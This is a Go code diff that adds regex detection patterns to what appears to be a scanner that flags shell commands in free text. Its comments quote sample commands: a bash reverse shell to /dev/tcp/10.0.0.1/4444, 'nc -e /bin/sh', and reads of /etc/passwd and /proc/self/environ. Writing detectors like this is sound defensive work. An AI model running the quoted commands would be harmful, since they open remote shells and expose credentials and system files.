@@ -100,6 +100,17 @@ var (
 		`\bchmod\s+[+0-7][0-7x]*\s+\S`,                                             // chmod +x file, chmod 777 file
 		`\b(?:wget|curl)\s+(?:-\S+\s+)*(?:https?|ftp)://\S+\s+(?:-\S+\s+)*-[oO]\b`, // wget http://… -O file: drop a file
 	))
+	// reShellInCode is what a shell runs wherever it sits in free text,
+	// quoted code included (to a shell a backtick, and so a code span or
+	// a fence, is command substitution): the commands of an attack that
+	// documentation does not quote in passing, a reverse shell or a
+	// system file read by a shell command.
+	reShellInCode = pats(anyOf(
+		`/dev/(?:tcp|udp)/[a-z0-9.\[\]:-]+/\d`,                // bash -i >& /dev/tcp/10.0.0.1/4444
+		`\bn(?:c|cat|etcat)\b[^|;\n]{0,40}\s-[a-z]*e\s*/bin/`, // nc -e /bin/sh
+		`\b(?:cat|head|tail|more|less|nl|tac|od|xxd|strings|base64)\s+(?:-\S+\s+(?:\d+\s+)?)*/etc/(?:passwd|shadow|group|sudoers)\b`, // cat /etc/passwd
+		`\b(?:cat|head|tail|more|less|nl|tac|strings)\s+(?:-\S+\s+(?:\d+\s+)?)*/proc/self/`,                                          // cat /proc/self/environ
+	))
 	reCmdWin = pats(anyOf(
 		`\bcmd(?:\.exe)?\s*/[ckr]\b`,                 // cmd /c, cmd.exe /k
 		`\bcmd(?:\.exe)?\s+/[a-z]\s`,                 // cmd /q …
